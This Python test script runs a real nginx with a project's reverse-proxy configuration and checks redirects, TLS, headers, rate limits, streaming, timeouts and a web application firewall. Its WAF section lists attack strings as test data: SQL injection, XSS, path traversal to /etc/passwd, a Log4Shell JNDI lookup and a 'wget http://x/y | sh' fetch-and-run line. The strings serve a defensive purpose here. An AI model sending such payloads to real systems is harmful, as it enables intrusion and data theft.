"""The configuration of deploy/nginx in a real nginx: before the service, and before an upstream that
says what reaches it. Usage: nginx.py NGINX SERVICE SIMULATOR | nginx.py NGINX SERVICE waf"""

import concurrent.futures
import contextlib
import http.client
import http.server
import json
import pathlib
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import uuid

from ports import free_port

NGINX, SERVICE, SIMULATOR = sys.argv[1:4]
WITH_WAF = SIMULATOR == "waf"
SOURCE = pathlib.Path("deploy/nginx")
DEADLINE = 20


def wait_for(port):
    until = time.monotonic() + DEADLINE
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=1).close()
        except OSError:
            assert time.monotonic() < until, f"nothing listens on {port}"
            time.sleep(0.02)


@contextlib.contextmanager
def running(command, port, **options):
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, **options)
    try:
        wait_for(port)
        yield process
    finally:
        process.terminate()
        process.wait(DEADLINE)


@contextlib.contextmanager
def service(directory, **variables):
    port = free_port()
    environment = {
        "HOST": "127.0.0.1", "PORT": str(port), "CHAT_ENGINE": "offline",
        "DATA_DIR": str(directory / f"data-{port}"), "TRUSTED_PROXIES": "127.0.0.1",
    } | variables
    with running([SERVICE], port, env=environment, stdout=subprocess.DEVNULL):
        yield port


class Edge:
    """nginx with a copy of the configuration, in which only the lines for an operator differ."""

    def __init__(self, directory, upstream, changes=(), waf=False):
        self.http, self.https = free_port(), free_port()
        self.directory = directory / f"nginx-{self.https}"
        shutil.copytree(SOURCE, self.directory)
        if not waf:
            shutil.rmtree(self.directory / "waf")
        certificate(self.directory)
        lines = [
            ("server api:8000;", f"server 127.0.0.1:{upstream};"),
            ("listen 80 default_server;", f"listen 127.0.0.1:{self.http} default_server;"),
            ("listen [::]:80 default_server;", ""),
            ("listen 443 ssl", f"listen 127.0.0.1:{self.https} ssl"),
            ("listen [::]:443 ssl http2 default_server;", ""),
            ("/etc/nginx/tls", str(self.directory)),
            ("/run/nginx.pid", str(self.directory / "pid")),
            ("/dev/stdout", str(self.directory / "access.log")),
            ("/dev/stderr", str(self.directory / "error.log")),
            ("worker_processes auto", "user root; worker_processes 2"),
        ]
        if waf:
            lines.append(("/etc/nginx/waf", str(self.directory / "waf")))
        texts = {path: path.read_text() for path in self.directory.rglob("*.conf")}
        for old, new in [*lines, *changes]:
            assert any(old in text for text in texts.values()), f"the configuration lacks {old!r}"
            texts = {path: text.replace(old, new) for path, text in texts.items()}
        for path, text in texts.items():
            path.write_text(text)

    def command(self, *arguments):
        return [NGINX, "-e", str(self.directory / "error.log"),
                "-c", str(self.directory / "nginx.conf"), *arguments]

    @contextlib.contextmanager
    def serving(self):
        test = subprocess.run(self.command("-t"), capture_output=True, text=True)
        assert test.returncode == 0, test.stderr
        with running(self.command("-g", "daemon off;"), self.https):
            try:
                yield self
            except AssertionError:
                print((self.directory / "error.log").read_text()[-4000:])
                raise

    def connection(self, source="127.0.0.1", version=None):
        context = ssl.create_default_context(cafile=self.directory / "tls.crt")
        if version:
            context.minimum_version = context.maximum_version = version
        return http.client.HTTPSConnection("localhost", self.https, context=context,
                                           timeout=DEADLINE, source_address=(source, 0))

    def ask(self, method, path, body=None, token=None, source="127.0.0.1", **headers):
        connection = self.connection(source)
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        if body is not None:
            headers.setdefault("Content-Type", "application/json")
            body = (body if isinstance(body, str) else json.dumps(body)).encode()
        if token:
            headers["Authorization"] = f"Bearer {token}"
        connection.request(method, path, body, headers)
        return answer_of(connection.getresponse())


def answer_of(response):
    response.text = response.read()
    return response


def certificate(directory):
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost", "-days", "2",
         "-keyout", directory / "tls.key", "-out", directory / "tls.crt"],
        check=True, capture_output=True)


def expect(answer, status, code=None):
    assert answer.status == status, f"{answer.status} instead of {status}: {answer.text[:300]}"
    if code:
        assert answer.getheader("Content-Type") == "application/problem+json", answer.headers
        problem = json.loads(answer.text)
        assert (problem["code"], problem["status"]) == (code, status), problem
        ids = answer.headers.get_all("X-Request-Id")
        assert ids == [problem["request_id"]], (ids, problem)
    return answer


def sign_up(edge, source="127.0.0.1"):
    person = {"name": "Ada", "email": f"ada@{source}.example", "password": "correct horse battery"}
    answer = expect(edge.ask("POST", "/api/auth/signup", person, source=source), 201)
    return json.loads(answer.text)["access_token"]


def check_service(edge):
    plain = http.client.HTTPConnection("127.0.0.1", edge.http, timeout=DEADLINE)
    plain.request("POST", "/api/me/chat?x=1", headers={"Host": "todo.example"})
    redirect = answer_of(plain.getresponse())
    assert redirect.status == 308, redirect.status
    assert redirect.getheader("Location") == "https://todo.example/api/me/chat?x=1"
    told("port 80 redirects with method, path and query")

    for version in (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3):
        connection = edge.connection(version=version)
        connection.request("GET", "/health")
        expect(answer_of(connection.getresponse()), 200)
    told("TLS 1.2 and 1.3 answer")

    token = sign_up(edge)
    said = expect(edge.ask("POST", "/api/me/chat", {"message": "add buy milk"}, token), 200)
    for name, value in {
        "Strict-Transport-Security": "max-age=31536000", "X-Content-Type-Options": "nosniff",
        "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer",
    }.items():
        got = said.headers.get_all(name)
        assert got and len(got) == 1 and got[0].startswith(value), (name, got)
    expect(edge.ask("PATCH", "/api/me/tasks/1", {"title": "buy oat milk"}, token), 200)
    expect(edge.ask("DELETE", "/api/me/tasks/1", token=token), 204)
    told("sign-up, chat, PATCH and DELETE pass, with the security headers once each")

    document = edge.ask("GET", "/openapi.json", Accept_Encoding="gzip")
    assert document.getheader("Content-Encoding") == "gzip", document.headers
    told("JSON is compressed")

    for path in ["/metrics", "//metrics", "/%6detrics", "/./metrics", "/health/../metrics", "/metrics/",
                 "/METRICS", "/health/detailed", "/health//detailed", "/health/%64etailed",
                 "/health/detailed?x", "/x/../health/detailed"]:
        expect(edge.ask("GET", path, source="127.0.0.9"), 404, "route_not_found")
    expect(edge.ask("GET", "/health/ready"), 200)
    told("/metrics and /health/detailed are closed, however they are written")

    mine = edge.ask("GET", "/api/me/tasks", token=token, X_Request_Id="mine-1")
    assert mine.headers.get_all("X-Request-Id") == ["mine-1"]
    odd = edge.ask("GET", "/api/me/tasks", token=token, X_Request_Id="mine 1\"")
    assert odd.getheader("X-Request-Id") not in (None, 'mine 1"')
    unknown = expect(edge.ask("GET", "/api/me/tasks/7", token=token), 404, "task_not_found")
    assert unknown.getheader("X-Request-Id")
    told("the request's id is passed on; problems of the service pass as they are")

    expect(edge.ask("POST", "/api/me/tasks", "x" * 70_000, token, source="127.0.0.8"), 413,
           "body_too_large")
    large = json.dumps({"id": "c", "messages": [{"id": "m", "role": "user", "parts": [
        {"type": "text", "text": "x" * 900_000}]}]})
    expect(edge.ask("POST", "/api/me/chat", large, token, source="127.0.0.8"), 422,
           "validation_failed")
    expect(edge.ask("POST", "/api/me/chat", large + " " * 200_000, token, source="127.0.0.8"), 413,
           "body_too_large")
    told("bodies of more than 64 KiB are refused, of more than 1 MiB where messages come")


def check_limit(edge):
    source = "127.0.0.31"
    token = sign_up(edge, source)
    time.sleep(1)  # the sign-up leaves the bucket
    connections = [edge.connection(source) for _ in range(31)]
    for connection in connections:
        connection.connect()
    started = time.monotonic()
    for connection in connections:
        connection.request("GET", "/api/me/tasks", headers={"Authorization": f"Bearer {token}"})
    sent = time.monotonic() - started
    answers = [answer_of(connection.getresponse()) for connection in connections]
    taken = time.monotonic() - started
    passed = sum(answer.status == 200 for answer in answers)
    refused = [answer for answer in answers if answer.status == 429]
    assert passed + len(refused) == 31, [answer.status for answer in answers]
    # The bucket drains by ten a second meanwhile.
    assert 21 <= passed <= 21 + int(10 * taken), (passed, taken)
    for answer in refused:
        expect(answer, 429, "rate_limited")
        assert answer.getheader("Retry-After") == "1", answer.headers
    told(f"31 at once, sent in {1000 * sent:.0f} ms: {passed} pass, {len(refused)} are told 429")


class Upstream(http.server.BaseHTTPRequestHandler):
    """Shows what reaches it, and sends a stream whose next piece waits for the one before."""

    protocol_version = "HTTP/1.1"
    received = threading.Semaphore(0)
    release = threading.Event()
    ended = threading.Event()

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.path == "/api/me/chat" and "text/event-stream" not in self.headers["Accept"]:
            assert Upstream.release.wait(DEADLINE)
            return self.reply("application/json", b"{}")
        self.stream()

    def do_GET(self):
        if self.path == "/api/me/tasks":
            Upstream.ended.wait(DEADLINE)
        if self.path.endswith("/stream"):
            return self.stream()
        seen = {"version": self.request_version, "headers": dict(self.headers)}
        self.reply("application/json", json.dumps(seen).encode())

    def reply(self, kind, body):
        with contextlib.suppress(BrokenPipeError):  # nginx waits no more
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    def stream(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for number in range(5):
            piece = b"data: %d\n\n" % number
            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            if not Upstream.received.acquire(timeout=5):
                return  # held back on the way
        self.wfile.write(b"0\r\n\r\n")

    def log_message(self, *arguments):
        pass


def check_streams(edge):
    for method, path in [("POST", "/api/me/chat"), ("GET", "/api/me/chat/x/stream"),
                         ("GET", "/api/me/turns/x/stream")]:
        connection = edge.connection()
        connection.request(method, path, headers={
            "Accept": "text/event-stream", "Accept-Encoding": "gzip"})
        response = connection.getresponse()
        assert response.getheader("Content-Encoding") is None, response.headers
        for number in range(5):
            piece = response.readline() + response.readline()
            assert piece == b"data: %d\n\n" % number, (path, number, piece)
            Upstream.received.release()
        assert response.read() == b""
    told("event streams arrive piece by piece, uncompressed")


@contextlib.contextmanager
def slow_model():
    """A provider whose events come 200 ms apart."""
    port = free_port()
    command = [SIMULATOR, "--port", str(port), "--cue", "slow=200"]
    with running(command, port, stdout=subprocess.DEVNULL):
        yield f"http://127.0.0.1:{port}"


def check_turn(edge):
    """A turn of the service arrives as the model says it."""
    account = {"name": "Ada", "email": "ada@example.org", "password": "correct horse"}
    token = json.loads(edge.ask("POST", "/api/auth/signup", account).text)["access_token"]
    arrived = follow_turn(edge, token, "hello")
    begun, texts, ended = arrived["start"][0], arrived["text-delta"], arrived["finish"][0]
    assert begun < 0.15, f"the stream begins after {begun:.3f} s"
    assert len(texts) > 2 and texts[-1] - texts[0] > 0.15, texts
    told(f"a turn begins to arrive after {1000 * begun:.0f} ms, its text after "
         f"{1000 * texts[0]:.0f} ms, its end after {1000 * ended:.0f} ms")
    first = follow_turn(edge, token, "hello [[simulate:slow-first-byte=200]]")["text-delta"][0]
    assert 0.2 <= first < 0.35, f"what the model says after 0.2 s arrives after {first:.3f} s"
    told(f"what the model says after 200 ms arrives after {1000 * first:.0f} ms")


def follow_turn(edge, token, message):
    """When a turn's chunks arrived, by their type, in seconds."""
    connection = edge.connection()
    connection.request("POST", "/api/me/chat", json.dumps({"message": message}), {
        "Accept": "text/event-stream", "Accept-Encoding": "gzip",
        "Content-Type": "application/json", "Authorization": f"Bearer {token}"})
    sent = time.monotonic()
    response = connection.getresponse()
    assert response.status == 200, response.read()
    assert response.getheader("Content-Encoding") is None, response.headers
    arrived = {}
    while line := response.readline():
        if line.startswith(b'data: {"type":'):
            arrived.setdefault(json.loads(line[6:])["type"], []).append(time.monotonic() - sent)
    return arrived


def check_forwarding(edge):
    answer = edge.ask("GET", "/show", X_Forwarded_For="1.2.3.4", X_Forwarded_Proto="http",
                      Forwarded="for=1.2.3.4", X_Request_Id="r-1")
    seen = json.loads(answer.text)
    headers = seen["headers"]
    assert seen["version"] == "HTTP/1.1" and headers.get("Connection") != "close", seen
    assert headers["X-Forwarded-For"] == "127.0.0.1" and headers["X-Forwarded-Proto"] == "https", seen
    assert "Forwarded" not in headers and headers["X-Request-Id"] == "r-1", seen
    told("the upstream is asked by HTTP/1.1 and told who asks, whatever the client claims")


def check_timeouts(edge):
    with concurrent.futures.ThreadPoolExecutor() as pool:
        chat = pool.submit(edge.ask, "POST", "/api/me/chat", {"message": "x"}, Accept="*/*")
        late = edge.ask("GET", "/api/me/tasks")
        Upstream.release.set()
        Upstream.ended.set()
        expect(late, 504, "service_timeout")
        expect(chat.result(), 200)
    told("what takes too long is a problem; a chat may take longer than the rest")


def check_mistakes(directory):
    taken = Edge(directory, free_port())
    with socket.create_server(("127.0.0.1", taken.https)):
        start = subprocess.run(taken.command("-g", "daemon off;"), capture_output=True, text=True)
    said = start.stderr + (taken.directory / "error.log").read_text()
    assert start.returncode and f"127.0.0.1:{taken.https} failed" in said, said
    wrong = Edge(directory, free_port())
    subprocess.run(["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256",
                    "-out", wrong.directory / "tls.key"], check=True, capture_output=True)
    test = subprocess.run(wrong.command("-t"), capture_output=True, text=True)
    assert test.returncode and "tls.key" in test.stderr and "mismatch" in test.stderr, test.stderr
    told("a port in use, and a key of another certificate, are told by name, and nothing starts")


def check_dead(edge):
    answer = expect(edge.ask("GET", "/api/me/tasks"), 503, "service_unreachable")
    assert answer.getheader("Retry-After") == "5"
    told("a service that is away is a problem, too")


TEXTS = ["add drop table 5 order", "delete from list where done=1", "add ' OR 1=1 --",
         "add <script>alert(1)</script> tags in the page", "add run cat /etc/passwd on the server",
         "add call java.lang.Runtime exec", "add ../../etc/shadow; wget http://x/y | sh",
         "add union select password from users"]
ATTACKS = [
    ("GET", "/api/me/tasks?status=%27%20OR%201%3D1%20--%20", {}),
    ("GET", "/api/me/tasks?sort=1%3B%20drop%20table%20users%3B--", {}),
    ("GET", "/api/me/tasks?cursor=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {}),
    ("GET", "/api/me/tasks?tag=..%2F..%2F..%2Fetc%2Fpasswd", {}),
    ("GET", "/docs?file=/etc/passwd", {}),
    ("GET", "/health?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fy%7D", {}),
    ("GET", "/health", {"User-Agent": "sqlmap/1.7"}),
    ("GET", "/.git/config", {}),
]


def messages_of_the_sdk(text):
    """A text as the AI SDK sends it: alone, and after a history of 200 KiB."""
    def message(role):
        return {"id": str(uuid.uuid4()), "role": role, "parts": [{"type": "text", "text": text}]}
    # Many short messages are many fields: about 6000.
    history = [message(role) for role in ["user", "assistant"] * 750]
    chat = str(uuid.uuid4())
    return {"id": chat, "message": message("user")}, {"id": chat, "messages": [*history, message("user")]}


def check_waf(edge):
    token = sign_up(edge)
    for text in TEXTS:
        expect(edge.ask("POST", "/api/me/chat", {"message": text}, token), 200)
        for body in messages_of_the_sdk(text):
            expect(edge.ask("POST", "/api/me/chat", body, token), 200)
        title = {"title": text, "description": text, "tags": ["etc", "passwd"]}
        expect(edge.ask("POST", "/api/me/tasks", title, token), 201)
        query = "/api/me/tasks?q=" + "".join(f"%{byte:02X}" for byte in text.encode())
        expect(edge.ask("GET", query, token=token), 200)
    batch = {"operations": [{"op": "create", "title": TEXTS[0]}, {"op": "create", "title": TEXTS[2]}]}
    expect(edge.ask("POST", "/api/me/tasks:batch", batch, token), 200)
    path = "/api/me/tasks/1"
    patch = json.dumps({"title": "select * from x; --"})
    expect(edge.ask("PATCH", path, patch, token, Content_Type="application/merge-patch+json"), 200)
    expect(edge.ask("DELETE", path, token=token), 204)
    expect(edge.ask("POST", "/api/me/tasks", "{broken", token), 400, "malformed_json")
    export = expect(edge.ask("GET", "/api/me/export", token=token), 200).text.decode()
    other = sign_up(edge, "127.0.0.2")
    kind = "application/x-ndjson"
    expect(edge.ask("POST", "/api/me/import", export, other, Content_Type=kind), 200)
    told(f"todo texts such as {TEXTS[0]!r} pass wherever people write, PATCH, DELETE and imports too")
    for method, path, headers in ATTACKS:
        connection = edge.connection()
        connection.request(method, path, headers={"Authorization": f"Bearer {token}"} | headers)
        expect(answer_of(connection.getresponse()), 403, "request_blocked")
    told(f"{len(ATTACKS)} attacks in other parameters, paths and headers are 403")


def check_passes_without_waf(edge):
    for method, path, headers in ATTACKS:
        connection = edge.connection("127.0.0.77")
        connection.request(method, path, headers=headers)
        assert answer_of(connection.getresponse()).status != 403, path


def told(what):
    print(f"    {what}", flush=True)


def main():
    with tempfile.TemporaryDirectory() as name, contextlib.ExitStack() as stack:
        directory = pathlib.Path(name)
        directory.chmod(0o755)
        if WITH_WAF:
            port = stack.enter_context(service(
                directory, RATE_LIMIT_PER_SECOND="off", CHAT_RATE_LIMIT_PER_MINUTE="off"))
            fast = [("rate=10r/s", "rate=1000r/s")]
            with Edge(directory, port, fast, waf=True).serving() as edge:
                check_waf(edge)
            with Edge(directory, port, fast).serving() as edge:
                check_passes_without_waf(edge)
            return
        port = stack.enter_context(service(directory))
        with Edge(directory, port).serving() as edge:
            check_service(edge)
            check_limit(edge)
        model = stack.enter_context(slow_model())
        talking = stack.enter_context(service(
            directory, CHAT_ENGINE="cohere", COHERE_API_KEY="any", COHERE_BASE_URL=model))
        with Edge(directory, talking).serving() as edge:
            check_turn(edge)
        upstream = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
        threading.Thread(target=upstream.serve_forever, daemon=True).start()
        with Edge(directory, upstream.server_port).serving() as edge:
            check_streams(edge)
            check_forwarding(edge)
        short = [("proxy_read_timeout 30s", "proxy_read_timeout 1s"),
                 ("proxy_read_timeout 40s", "proxy_read_timeout 20s")]
        with Edge(directory, upstream.server_port, short).serving() as edge:
            check_timeouts(edge)
        upstream.shutdown()
        with Edge(directory, free_port()).serving() as edge:
            check_dead(edge)
        check_mistakes(directory)


main()
